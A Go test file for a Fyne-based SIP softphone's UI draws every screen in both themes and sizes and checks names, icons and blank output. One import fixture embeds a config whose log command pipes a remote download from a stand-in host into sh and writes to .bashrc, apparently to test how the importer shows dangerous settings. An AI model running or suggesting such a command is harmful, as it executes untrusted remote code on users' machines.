package ui

import (
	"context"
	"image/png"
	"maps"
	"os"
	"path/filepath"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/container"
	"fyne.io/fyne/v2/driver/software"
	"fyne.io/fyne/v2/test"
	fynewidget "fyne.io/fyne/v2/widget"

	"calla/account"
	"calla/icons"
	"calla/phone"
	"calla/phone/cause"
	"calla/phone/contacts"
	"calla/phone/doctor"
	"calla/phone/journal"
	"calla/ui/form"
	"calla/ui/uitest"
	"calla/ui/widget"
)

// TestScreens draws every screen, light and dark, narrow and wide: none is blank, whatever takes the keyboard says what
// it is to a screen reader, and every icon drawn exists. With CALLA_SCREENS set to a folder the pictures are kept
// there.
func TestScreens(t *testing.T) {
	oneGoroutine(t)
	dir := os.Getenv("CALLA_SCREENS")
	people := knowing(t, "Bob Marsh")
	sizes := map[string]account.Size{"narrow": {Width: minWidth, Height: minHeight}, "wide": {Width: 1000, Height: 680}}
	// The theme is outermost: another one takes long.
	for _, theme := range []account.Theme{account.ThemeLight, account.ThemeDark} {
		for name, draw := range screens() {
			for word, size := range sizes {
				if dir == "" && ((word == "wide") != (theme == account.ThemeDark)) {
					continue // without a folder, half of them are enough to see that all can be drawn
				}
				file := name + "-" + word + "-" + string(theme)
				t.Run(file, func(t *testing.T) {
					o := openWith(t, Options{Theme: theme, Size: size, Version: "0.1.0"}, people)
					o.update(idle())
					win := draw(o)
					if win == nil {
						win = o.main.win
					}
					uitest.Settle(win)
					nameEverything(t, win)
					if c, ok := win.Canvas().(software.WindowlessCanvas); ok && dir == "" {
						c.SetScale(0.5) // a fourth of the dots tells as well whether all can be drawn
					}
					img := win.Canvas().Capture()
					if uitest.Blank(img) {
						t.Fatal("nothing is drawn")
					}
					if dir == "" {
						return
					}
					f, err := os.Create(filepath.Join(dir, file+".png"))
					if err != nil {
						t.Fatal(err)
					}
					defer f.Close()
					if err := png.Encode(f, img); err != nil {
						t.Fatal(err)
					}
				})
			}
		}
	}
}

// nameEverything looks for what has no name, and for icons that are none.
func nameEverything(t *testing.T, win fyne.Window) {
	t.Helper()
	objects := test.LaidOutObjects(win.Content())
	for _, overlay := range win.Canvas().Overlays().List() {
		objects = append(objects, test.LaidOutObjects(overlay)...)
	}
	for _, obj := range uitest.Nameless(objects) {
		if _, menu := obj.(*fynewidget.PopUpMenu); menu {
			continue // Fyne's has none; its lines are read
		}
		t.Errorf("%T has no name", obj)
	}
	for _, obj := range objects {
		if icon, ok := obj.(*widget.Icon); ok && icon.Name() != "" && icons.SVG(icon.Name()) == nil {
			t.Errorf("no icon %q", icon.Name())
		}
	}
}

// ownContact is a contact that has all for its calls.
func (o *opened) ownContact() journal.Contact {
	c, _ := o.phone.journal.ContactOf(context.Background(), "4711")
	c.Own = contacts.Own{
		Ringtone: "/home/anna/Music/Ringtones/a very long name of a tune.flac", Answer: contacts.Yes, After: 5,
		Record: contacts.Yes,
	}
	return c
}

// screens are the pictures to draw; each returns the window to capture, nil for the main one.
func screens() map[string]func(*opened) fyne.Window {
	page := func(f func(*opened)) func(*opened) fyne.Window {
		return func(o *opened) fyne.Window { f(o); return nil }
	}
	all := callScreens()
	maps.Copy(all, hostileScreens())
	maps.Copy(all, recentScreens())
	maps.Copy(all, map[string]func(*opened) fyne.Window{
		"welcome":  page(func(o *opened) { o.update(phone.State{Devices: devices()}) }),
		"robots":   page(func(o *opened) { o.update(tryOut()) }),
		"echo":     page(func(o *opened) { o.update(withEcho()) }),
		"keypad":   page(func(o *opened) { o.main.dial.fill("+49 30 901820") }),
		"contacts": page(func(o *opened) { o.main.openContacts(); o.finish() }),
		"contact": page(func(o *opened) {
			c, _ := o.phone.journal.ContactOf(context.Background(), "4711")
			contactWindow{pageWindow{o.main}}.ShowContact(c)
			o.finish()
		}),
		"contact-form": page(func(o *opened) {
			c, _ := o.phone.journal.ContactOf(context.Background(), "4711")
			o.main.editContact(c, o.main.open)
		}),
		"contact-own": page(func(o *opened) { contactWindow{pageWindow{o.main}}.ShowContact(o.ownContact()) }),
		"contact-form-own": page(func(o *opened) {
			o.main.editContact(o.ownContact(), o.main.open)
			for _, s := range uitest.LaidOut[*container.Scroll](o.main.win.Content()) {
				s.ScrollToBottom()
			}
		}),
		"contact-wrong": page(func(o *opened) {
			o.main.addToContacts("Carol", "http://example.com/", o.main.open)
			o.main.page.(interface{ Save() }).Save()
		}),
		"contacts-import": page(func(o *opened) {
			path := filepath.Join(os.TempDir(), "calla-screens.vcf")
			cards := ""
			for _, card := range []string{
				"Bob Marsh\nTEL:+49 30 901820", "Maria Ortiz\nORG:Rail\nTEL:+34 91 555 0142", "Nobody\nTEL:http://x/",
				"שלום עולם\nTEL:4713", "Anna Klein\nTEL:4711",
			} {
				cards += "BEGIN:VCARD\nVERSION:4.0\nFN:" + card + "\nEND:VCARD\n"
			}
			_ = os.WriteFile(path, []byte(cards), 0o600) // where it is not there, the screen says so
			defer func() { _ = os.Remove(path) }()
			contactWindow{pageWindow{o.main}}.ImportContacts(path)
			o.finish()
		}),
		"keypad-suggestions": page(func(o *opened) {
			o.main.dial.number.SetText("b")
			o.finish()
			o.key(fyne.KeyDown)
		}),
		"transfer-suggestions": page(func(o *opened) {
			o.update(inPhase(phone.PhaseEstablished))
			o.main.call.openTransfer(false)
			o.char('b')
			o.finish()
			o.key(fyne.KeyDown)
		}),
		"problem": page(func(o *opened) {
			s := idle()
			s.Accounts[0].Status = phone.StatusRetrying
			s.Accounts[0].RetryAt = time.Now().Add(8 * time.Second)
			s.Accounts[0].Problem = &cause.Cause{
				Kind: cause.ServerNotFound, Server: "wss://sip.example.com",
				Action: cause.ActionEditAccount,
			}
			o.update(s)
		}),
		"calling":  page(func(o *opened) { o.update(inPhase(phone.PhaseCalling)) }),
		"incoming": page(func(o *opened) { o.update(inPhase(phone.PhaseIncoming)) }),
		"popup": func(o *opened) fyne.Window {
			o.update(inPhase(phone.PhaseIncoming))
			return o.ringing["c1"].win
		},
		"call": page(func(o *opened) {
			o.update(inPhase(phone.PhaseEstablished))
			for range 20 {
				o.beat(false)
			}
		}),
		"muted": page(func(o *opened) {
			s := inPhase(phone.PhaseEstablished)
			s.Calls[0].Muted = true
			s.Calls[0].Problem = &cause.Cause{Kind: cause.NoMicrophone, Action: cause.ActionChooseDevice}
			o.update(s)
		}),
		"muted-talking": page(func(o *opened) { o.update(mutedTalking(true)) }),
		"settings-order": page(func(o *opened) {
			s := idle()
			for _, c := range []account.DeviceChoice{{ID: "w", Name: "Webcam"}, s.Devices.Settings.Microphone} {
				s.Devices.Settings = s.Devices.Settings.Choose(account.RoleMicrophone, c)
			}
			o.update(s)
			o.main.openSettings()
		}),
		"with-extension": page(func(o *opened) { o.main.dial.fill("Tel.: +1 555 438 3732,,12") }),
		"postdial-waits": page(func(o *opened) {
			s := inPhase(phone.PhaseEstablished)
			s.Calls[0].Digits, s.Calls[0].PostDial = "12", phone.PostDial{Digits: "987654#", Waits: true}
			o.update(s)
		}),
		"postdial-rings": page(func(o *opened) {
			s := inPhase(phone.PhaseRinging)
			s.Calls[0].PostDial = phone.PostDial{Digits: ",,12"}
			o.update(s)
		}),
		"dtmf": page(func(o *opened) {
			s := inPhase(phone.PhaseEstablished)
			s.Calls[0].Digits = "1234#"
			o.update(s)
			o.main.call.toggleKeypad()
		}),
		"quality": page(func(o *opened) {
			o.update(inPhase(phone.PhaseEstablished))
			o.main.openQuality()
		}),
		"ended": page(func(o *opened) {
			s := idle()
			s.Ended = &phone.EndedCall{
				CallID: "c1", Account: "Office", Name: "Bob Marsh", Address: "bob@example.com",
				Cause: cause.Cause{Kind: cause.Busy}, Code: 486, At: time.Now(),
			}
			o.update(s)
		}),
		"float": page(func(o *opened) {
			o.main.openSettings()
			o.update(inPhase(phone.PhaseIncoming))
		}),
		"settings-links": page(func(o *opened) {
			o.options.Links = &system{others: "Other Phone"}
			o.main.openSettings()
			o.finish()
			scrollDown(o)
		}),
		"keypad-instead": page(func(o *opened) {
			o.main.dial.fill("030 1234567 Bob")
			o.main.dial.dial()
			s := idle()
			s.Refusal = &phone.Refusal{
				ID: "r", Command: phone.CommandDial,
				Cause: *o.phone.ReadDialled("office", "030 1234567 Bob").Problem,
			}
			o.update(s)
		}),
		"ended-digits": page(func(o *opened) {
			o.update(endedOf("c1", func(e *phone.EndedCall) { e.After, e.Cause.Kind = ",,12#", cause.Busy }))
		}),
		"ended-redirect-digits": page(func(o *opened) {
			o.update(endedOf("c1", func(e *phone.EndedCall) {
				e.After, e.Cause.Kind = ",,12#", cause.Redirected
				e.Redirect = []phone.RedirectTarget{{Name: "Carol", Address: "carol"}, {Address: "+4930123456"}}
			}))
		}),
		"settings":  page(func(o *opened) { o.main.openSettings() }),
		"accounts":  page(func(o *opened) { o.main.openAccounts() }),
		"about":     page(func(o *opened) { o.main.openAbout() }),
		"shortcuts": page(func(o *opened) { o.main.openShortcuts() }),
		"form":      page(func(o *opened) { o.main.editAccount("office") }),
		"export": page(func(o *opened) {
			o.main.editAccount("office")
			o.main.page.(*form.Page).Export()
		}),
		"import": page(func(o *opened) {
			o.paste("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', " +
				"session_timers: true }")
			o.main.sheet.fit()
		}),
		"import-to-fill": page(func(o *opened) {
			o.paste("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: " +
				"process.env.SIP_PASSWORD,\n  ws_servers: 'wss://sip.example.com',\n  stun_servers: " +
				"'stun.example.com:3478',\n  pasword: 1 });")
			o.main.sheet.fit()
		}),
		"import-several": page(func(o *opened) {
			sheet := o.paste("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew " +
				"JsSIP.UA({ uri: 'bob@example.com', ws_servers: 'wss://b.example' });")
			uitest.LaidOut[*widget.Select](sheet)[0].Choose(1)
			o.main.sheet.fit()
		}),
		"import-local": page(func(o *opened) {
			o.paste("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: " +
				"'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
			o.main.sheet.fit()
		}),
		"enter-password": page(func(o *opened) { o.main.askPassword("office") }),
		"start-empty":    page(func(o *opened) { o.main.askStartEmpty() }),
		"place": page(func(o *opened) {
			o.main.askPlace(account.ErrKeyringAbsent,
				func(account.SecretPlace) {})
		}),
		"wizard-who": page(func(o *opened) {
			o.main.openWizardDetails()
		}),
		"wizard-server": page(func(o *opened) {
			o.main.openWizardDetails()
			w := o.main.page.(*wizard)
			w.uri.SetText("alice@example.com")
			w.goOn()
		}),
		"wizard-sound-none": page(func(o *opened) {
			o.update(withoutMicrophone())
			o.main.openWizardDetails()
			o.main.page.(*wizard).show(stepSound)
		}),
		"call-stand-in": page(func(o *opened) {
			s := inPhase(phone.PhaseEstablished)
			s.Calls[0].Problem = &cause.Cause{
				Kind: cause.DeviceStandsIn, Gone: []string{"Jabra Evolve 40"}, Used: []string{"Built-in microphone"},
				Action: cause.ActionChooseDevice,
			}
			o.update(s)
		}),
		"wizard-sound": page(func(o *opened) {
			o.main.openWizardDetails()
			o.main.page.(*wizard).show(stepSound)
		}),
	})
	return all
}

// withoutMicrophone is the State of a machine that has only a monitor of its loudspeaker.
func withoutMicrophone() phone.State {
	s := idle()
	s.Devices.Capture = []account.DeviceChoice{{}, {ID: "mon", Name: "Monitor of Built-in Audio", Loopback: true}}
	s.Devices.Settings = account.Devices{}
	s.Devices.Problem = &cause.Cause{
		Kind: cause.NoMicrophone, System: cause.SystemOnlyChosen,
		Action: cause.ActionChooseDevice,
	}
	return s
}

func someSteps() []doctor.Step {
	return []doctor.Step{
		{
			ID: 1, Check: cause.CheckSettings, Status: doctor.OK, Took: time.Millisecond,
			Cause: cause.Cause{Kind: cause.Complete},
		},
		{
			ID: 2, Check: cause.CheckName, Server: "wss://sip-ws-1.example.com", Status: doctor.OK,
			Took: 4 * time.Millisecond, Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9"}},
		},
		{
			ID: 3, Check: cause.CheckConnection, Status: doctor.OK, Took: 11 * time.Millisecond,
			Cause: cause.Cause{Kind: cause.Addresses, Names: []string{"203.0.113.9:443"}},
		},
		{
			ID: 4, Check: cause.CheckEncryption, Status: doctor.OK, Took: 23 * time.Millisecond,
			Cause: cause.Cause{Kind: cause.CertificateGood, Text: "TLS 1.3", At: time.Now().AddDate(0, 0, 61)},
		},
		{
			ID: 5, Check: cause.CheckWebSocket, Status: doctor.OK, Took: 9 * time.Millisecond,
			Cause: cause.Cause{Kind: cause.SwitchedProtocols},
		},
		{ID: 6, Check: cause.CheckRegistration, Status: doctor.Running},
		{
			ID: 7, Check: cause.CheckTURN, Server: "turns:turn.example.com", Status: doctor.Failed,
			Cause: cause.Cause{Kind: cause.TURNRefused, Server: "turns:turn.example.com"},
		},
	}
}
